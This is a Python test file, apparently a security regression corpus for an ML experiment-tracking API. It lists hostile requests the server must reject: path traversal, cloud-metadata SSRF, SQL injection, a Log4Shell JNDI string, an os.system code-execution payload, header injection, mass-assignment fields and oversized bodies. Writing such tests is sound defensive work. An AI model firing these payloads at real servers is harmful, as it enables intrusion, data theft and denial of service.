"""Hostile input that passes the guard and must be turned away, or taken as plain data, by the server itself.

`RUN` stands for the id of a run of the tenant; each row says which statuses are right.
"""

import json
from typing import NamedTuple

from tests.attacks.corpus import JSON
from tests.attacks.raw_http import request

RUN = "RUN"
_FORM = "Content-Type: multipart/form-data; boundary=b"


class ServerAttack(NamedTuple):
    id: str
    method: str
    target: str
    headers: tuple[str, ...]
    body: bytes
    allowed: frozenset[int]

    def payload(self, run: str) -> bytes:
        return request(self.method, self.target.replace(RUN, run), *self.headers, body=self.body)


def _get(row: str, target: str, *allowed: int, headers: tuple[str, ...] = ()) -> ServerAttack:
    return ServerAttack(row, "GET", target, headers, b"", frozenset(allowed))


def _post(row: str, target: str, body: object, *allowed: int, headers: tuple[str, ...] = ()) -> ServerAttack:
    data = body if isinstance(body, bytes) else json.dumps(body).encode()
    return ServerAttack(row, "POST", target, (JSON, *headers), data, frozenset(allowed))


def _upload(row: str, query: str, disposition: str, *allowed: int) -> ServerAttack:
    body = f"--b\r\nContent-Disposition: {disposition}\r\n\r\ndata\r\n--b--\r\n".encode("utf-8", "surrogateescape")
    target = f"/api/v1/experiments/runs/{RUN}/log-artifact{query}"
    return ServerAttack(row, "POST", target, (_FORM,), body, frozenset(allowed))


_EXPERIMENTS = "/api/v1/experiments"
_RUNS = "/api/v1/experiments/runs"
_ONE_RUN = f"{_RUNS}/{RUN}"

# S1: no client chooses where anything is stored. ATK-01, 03, 07, 08, 10, 12, 18.
LOCATIONS = [
    _post(f"ATK-{number}", _EXPERIMENTS, {"name": f"x{number}", "artifact_location": location}, 400)
    for number, location in {
        "01": "file:///etc",
        "01-path": "/etc",
        "01-home": "~/.ssh",
        "03": "mlflow-artifacts://h:1/../../../../etc",
        "07": "http://evil.example/api/2.0/mlflow-artifacts/artifacts/",
        "07-model": "models:/X/1",
        "08": "ftp://evil.example/a",
        "10": "http:///;/../../../etc",
        "10-fragment": "http:///#/../../../../etc/",
        "10-query": "http://host?/../../../etc/",
        "12": "../../..",
        "12-dbfs": "dbfs:/x",
        "18": "http://169.254.169.254/latest/meta-data/",
        "18-s3": "s3://somebody-elses-bucket/x",
        "18-gs": "gs://bucket/x",
        "04": "\\\\?\\C:\\",
        "18-nul": "s3://a\x00b",
        "empty-scheme": "://x",
    }.items()
]

# Fields that only the server sets, on every route that writes (API3).
MASS = [
    _post(f"MASS-01-experiment-{field}", _EXPERIMENTS, {"name": "mass", field: value}, 400)
    for field, value in {
        "id": "0" * 32,
        "number": 0,
        "tenant": "other",
        "tenant_id": "other",
        "lifecycle_stage": "deleted",
        "created_at": "2020-01-01T00:00:00.000Z",
        "run_count": 7,
        "__proto__": {},
    }.items()
] + [
    _post(f"MASS-01-run-{field}", _RUNS, {"experiment_id": "0" * 32, field: value}, 400)
    for field, value in {"created_by": "root", "artifact_uri": "/etc", "metrics": {"a": 1}}.items()
]

_UPLOADS = {
    "dots": "../../etc/passwd",
    "dots-windows": "..\\..\\windows\\x",
    "absolute": "/etc/passwd",
    "drive": "C:\\x",
    "encoded": "%2e%2e%2fx",
    "dots-alone": "..",
    "dot": ".",
    "fragment": "a#b",
    "query": "a?b",
    "control": "a\x01b",
    "long": "x" * 256,
    "bidi": "a\u202eb",
    "empty": "",
}

# ATK-02, 04, 05, 09, 11: names of files that something reads as another place.
UPLOADS = [
    *(
        _upload(f"ATK-11-{kind}", "", f'form-data; name="file"; filename="{name}"', 400)
        for kind, name in _UPLOADS.items()
    ),
    _upload("ATK-11-no-name", "", 'form-data; name="file"', 400),
    _upload("ATK-11-other-part", "", 'form-data; name="other"; filename="a"', 400),
    _upload("ATK-29-header", "", 'form-data; name="file"; filename="x%22%0d%0aSet-Cookie: a=1"', 400),
    *(
        _upload(f"ATK-05-directory-{kind}", f"?artifact_path={path}", 'form-data; name="file"; filename="a"', 400)
        for kind, path in {
            "dots": "../..",
            "encoded-dots": "%2e%2e%2f%2e%2e",
            "twice-encoded": "%252e%252e%252f",
            "absolute": "/etc",
            "backslash": "..%5C..",
            "nul": "a%00b",
            "inner-dots": "a/../../b",
            "double-slash": "a//b",
            "drive": "C:/x",
            "deep": "a/" * 64 + "b",
            "crlf": "a%0d%0ab",
            "bidi": "a%E2%80%AEb",
        }.items()
    ),
    ServerAttack(
        "LIM-05-no-boundary",
        "POST",
        f"{_ONE_RUN}/log-artifact",
        ("Content-Type: multipart/form-data",),
        b"x",
        frozenset((400, 415)),
    ),
    ServerAttack(
        "LIM-05-no-end",
        "POST",
        f"{_ONE_RUN}/log-artifact",
        (_FORM,),
        b'--b\r\nContent-Disposition: form-data; name="file"; filename="a"\r\n\r\ndata',
        frozenset((400,)),
    ),
    ServerAttack(
        "LIM-05-many-parts",
        "POST",
        f"{_ONE_RUN}/log-artifact",
        (_FORM,),
        b"--b\r\n\r\n\r\n" * 100_000 + b"--b--",
        frozenset((400, 413)),
    ),
    ServerAttack(
        "LIM-05-long-part-header",
        "POST",
        f"{_ONE_RUN}/log-artifact",
        (_FORM,),
        b"--b\r\nX-A: " + b"a" * 200_000 + b"\r\n\r\n\r\n--b--",
        frozenset((400, 413)),
    ),
    ServerAttack(
        "LIM-05-long-boundary",
        "POST",
        f"{_ONE_RUN}/log-artifact",
        ("Content-Type: multipart/form-data; boundary=" + "b" * 5_000,),
        b"x",
        frozenset((400, 415)),
    ),
    ServerAttack(
        "LIM-05-regex",
        "POST",
        f"{_ONE_RUN}/log-artifact",
        ('Content-Type: multipart/form-data; !="' + "\\\\" * 5_000,),
        b"x",
        frozenset((400, 415)),
    ),
]

# ATK-05, 10, 23: reading by path. The guard took what no path may hold; these look like ordinary ones.
READS = [
    _get("ATK-05-unknown", f"{_ONE_RUN}/artifacts/etc/passwd", 404),
    _get("ATK-09-percent", f"{_ONE_RUN}/artifacts/%252e%252e", 400),
    _get("ATK-10-question", f"{_ONE_RUN}/artifacts/a%3Fb", 400),
    _get("ATK-10-hash", f"{_ONE_RUN}/artifacts/a%23b", 400),
    _get("ATK-10-semicolon", f"{_ONE_RUN}/artifacts/..;/x", 404),
    _get("ATK-02-drive", f"{_ONE_RUN}/artifacts/C:x", 400),
    _get("ATK-05-list", f"{_ONE_RUN}/artifacts?path=../..", 400),
    _get("ATK-05-list-absolute", f"{_ONE_RUN}/artifacts?path=/etc", 400),
    _get("ATK-05-list-nul", f"{_ONE_RUN}/artifacts?path=a%00", 400),
    _get("ATK-06", "/api/1.0/preview/experiments/list", 404),
    _get("ATK-22", "/api/jobs/", 404),
    _get("ATK-23-aim", "/static-files/etc/passwd", 404),
    _get("ATK-23-weave", "/__weave/file/etc/passwd", 404),
    _get("ATK-23-gradio", "/file=/etc/passwd", 404),
    _get("ATK-23-starlette", "/static../secret", 404),
    _get("ATK-24", "/api/runs/search/run/?q=(x%20for%20x%20in%20[1]).gi_frame.f_builtins", 404),
    _get("ATK-25", f"{_RUNS}/..secret", 404),
    _get("ATK-25-upper", f"{_RUNS}/{'A' * 32}", 404),
    _get("ATK-25-quote", f"{_RUNS}/'%20OR%201=1--", 404),
    _get("ATK-25-long", f"{_RUNS}/{'a' * 4000}", 404),
    _get("ATK-27-next", "/login?next=//evil.example", 404),
    _get("ATK-27-slash", f"{_EXPERIMENTS}/", 200, 404),
    _get("INV-01-admin", "/admin", 404),
    _get("INV-01-env", "/.env", 404),
    _get("INV-01-git", "/.git/config", 404),
]

# FUZ-01, ATK-30, LIM-07, LIM-08: queries.
QUERIES = [
    *(
        _get(f"ATK-30-filter-{number}", f"{_RUNS}?filter={text}", 400)
        for number, text in enumerate(
            (
                "metrics.%22a'%20OR%201=1--%22%20%3E%200%20x",
                "1=1",
                "params.lr%20=%200;%20DROP%20TABLE%20run",
                "(select%201)",
                "metrics.loss%20%3E%20(select%20count(*)%20from%20run_)",
                "metrics.loss%20%3E%20abs(1)",
                "tenant%20=%20'other'",
                "run_.tenant%20=%201",
                "%27",
                "(" * 1000,
                "not%20" * 1000 + "metrics.a%20%3E%201",
                "%20and%20".join(["metrics.a%20%3E%201"] * 65),
                "metrics.a%00%20%3E%201",
                "%ff%fe",
                "__import__('os').system('id')",
                "${jndi:ldap://evil.example/a}",
            )
        )
    ),
    *(
        _get(f"ATK-30-order-{number}", f"{_RUNS}?order_by={text}", 400)
        for number, text in enumerate(
            (
                "(select%20name%20from%20tenant_)",
                "1;drop%20table%20run_",
                "metrics.loss%20asc,",
                "tenant%20asc",
                "rowid",
            )
        )
    ),
    *(
        _get(f"LIM-08-{name}-{value[:12]}", f"{target}?{name}={value}", 400)
        for target in (_EXPERIMENTS, _RUNS)
        for name, values in {
            "limit": ("0", "-1", "1001", "1000000000", "1.5", "abc", "", "%00", "9" * 400),
            "offset": ("-1", "9" * 30, "abc", "", "1.5"),
            "lifecycle_stage": ("all", "", "ACTIVE", "active'"),
        }.items()
        for value in values
    ),
    _get("LIM-08-twice", f"{_EXPERIMENTS}?limit=1&limit=2", 400),
    _get("LIM-08-status", f"{_RUNS}?status=done", 400),
    _get("ATK-31-tenant-list", _EXPERIMENTS, 400, headers=("X-Tenant-ID: a, b",)),
    _get("ATK-31-tenant-upper", _EXPERIMENTS, 400, headers=("X-Tenant-ID: A",)),
    _get("ATK-31-tenant-long", _EXPERIMENTS, 400, headers=("X-Tenant-ID: " + "a" * 64,)),
    _get("ATK-31-tenant-path", _EXPERIMENTS, 400, headers=("X-Tenant-ID: ../x",)),
    _get("ATK-31-tenant-sql", _EXPERIMENTS, 400, headers=("X-Tenant-ID: a'--",)),
]


def _metric(row: str, value: str, *allowed: int, more: str = "") -> ServerAttack:
    body = f'{{"metrics": {{"loss": {value}}}{more}}}'.encode()
    return _post(row, f"{_ONE_RUN}/log-metrics", body, *allowed)


# LIM-03, LIM-04, FUZ-03: bodies.
BODIES = [
    *(
        _post(f"LIM-03-{kind}", _EXPERIMENTS, body, 400)
        for kind, body in {
            "depth": b"[" * 100_000,
            "depth-objects": b'{"a":' * 100_000,
            "depth-in-field": b'{"name": ' + b"[" * 50_000 + b"]" * 50_000 + b"}",
            "digits": b'{"name": ' + b"9" * 1_000_000 + b"}",
            "exponent": b'{"name": 1e999999999}',
            "string": b'{"name": "' + b"x" * 4_000_000 + b'"}',
            "empty": b"",
            "blank": b" ",
            "null": b"null",
            "list": b"[]",
            "text": b'"x"',
            "cut": b'{"name": "x',
            "two": b'{"name": "x"}{"name": "y"}',
            "not-utf8": b'{"name": "\xff\xfe"}',
            "utf16": '{"name": "x"}'.encode("utf-16"),
            "bom": b"\xef\xbb\xbf{}",
            "surrogate": b'{"name": "\\ud800"}',
            "nul": b'{"name": "a\\u0000b"}',
            "raw-control": b'{"name": "a\nb"}',
            "bidi": '{"name": "a\u202eb"}'.encode(),
            "type": b'{"name": 5}',
            "name-null": b'{"name": null}',
            "name-blank": b'{"name": "   "}',
            "name-256": json.dumps({"name": "x" * 256}).encode(),
            "description-1001": json.dumps({"name": "d", "description": "x" * 1001}).encode(),
            "tag-key-251": json.dumps({"name": "t", "tags": {"x" * 251: ""}}).encode(),
            "tag-value-8001": json.dumps({"name": "t", "tags": {"k": "x" * 8001}}).encode(),
            "tag-number": b'{"name": "t", "tags": {"k": 1}}',
            "tag-null": b'{"name": "t", "tags": {"k": null}}',
            "unknown": b'{"name": "t", "name_": "x"}',
            "comment": b'{"name": "t" /* x */}',
            "single-quotes": b"{'name': 't'}",
        }.items()
    ),
    *(
        _metric(f"FUZ-03-value-{number}", value, 400)
        for number, value in enumerate(("NaN", "Infinity", "1e999", "true", "null", "[]", "{}", '"x"', '"1"', '"nan "'))
    ),
    *(
        _metric(f"FUZ-03-{kind}", "1", 400, more=f', "{name}": {value}')
        for kind, name, value in (
            ("step-2^64", "step", "18446744073709551616"),
            ("step-past-2^53", "step", "9007199254740993"),
            ("step-huge", "step", "1e300"),
            ("step-true", "step", "true"),
            ("step-text", "step", '"3"'),
            ("step-null", "step", "null"),
            ("time-negative", "timestamp", "-1"),
            ("time-2^63", "timestamp", "9223372036854775808"),
            ("time-past-9999", "timestamp", "253402300800000"),
            ("time-fraction", "timestamp", "1.5"),
            ("time-text", "timestamp", '"now"'),
        )
    ),
    _post("LIM-04-metrics", f"{_ONE_RUN}/log-metrics", {"metrics": {f"m{i}": 0 for i in range(10_001)}}, 400),
    _post("LIM-04-params", f"{_ONE_RUN}/log-params", {"params": {f"p{i}": 0 for i in range(10_001)}}, 400),
    _post("LIM-04-batch", f"{_ONE_RUN}/log-batch", {"metrics": [{"key": "m", "value": 0}] * 10_001}, 400),
    _post("LIM-04-key-251", f"{_ONE_RUN}/log-metrics", {"metrics": {"x" * 251: 0}}, 400),
    _post("LIM-04-key-empty", f"{_ONE_RUN}/log-metrics", {"metrics": {"": 0}}, 400),
    _post("LIM-04-key-nul", f"{_ONE_RUN}/log-metrics", {"metrics": {"a\x00": 0}}, 400),
    _post("LIM-04-param-6001", f"{_ONE_RUN}/log-params", {"params": {"p": "x" * 6_001}}, 400),
    _post("LIM-04-param-list", f"{_ONE_RUN}/log-params", {"params": {"p": [1]}}, 400),
    _post("LIM-04-compare-1", f"{_RUNS}/compare", {"run_ids": [RUN]}, 400),
    _post("LIM-04-compare-11", f"{_RUNS}/compare", {"run_ids": [f"{i:032x}" for i in range(11)]}, 400),
    _post("LIM-04-compare-twice", f"{_RUNS}/compare", {"run_ids": ["a" * 32, "a" * 32]}, 400),
    _post("LIM-04-buckets", f"{_RUNS}/series", {"run_ids": ["a" * 32], "keys": ["a"], "buckets": 5_001}, 400),
    _post("LIM-04-buckets-0", f"{_RUNS}/series", {"run_ids": ["a" * 32], "keys": ["a"], "buckets": 0}, 400),
    _post("ATK-19", _EXPERIMENTS, {"name": "${HOME}\n"}, 400),
]

# LIM-06: what a Range header may ask of a download of 4 bytes.
RANGES = [
    _get(f"LIM-06-{kind}", f"{_ONE_RUN}/artifacts/small.bin", 200, 206, 400, 416, headers=(f"Range: {value}",))
    for kind, value in {
        "many": "bytes=" + ",".join(["0-1"] * 5_000),
        "two": "bytes=0-1,2-3",
        "last-none": "bytes=-0",
        "overflow": "bytes=0-" + "9" * 400,
        "backwards": "bytes=3-1",
        "past-the-end": "bytes=4-",
        "negative": "bytes=--1",
        "unit": "lines=0-1",
        "empty": "bytes=",
        "words": "bytes=a-b",
        "digits": "bytes=\u00b2-",
    }.items()
]

SERVER_CORPUS = [*LOCATIONS, *MASS, *UPLOADS, *READS, *QUERIES, *BODIES, *RANGES]
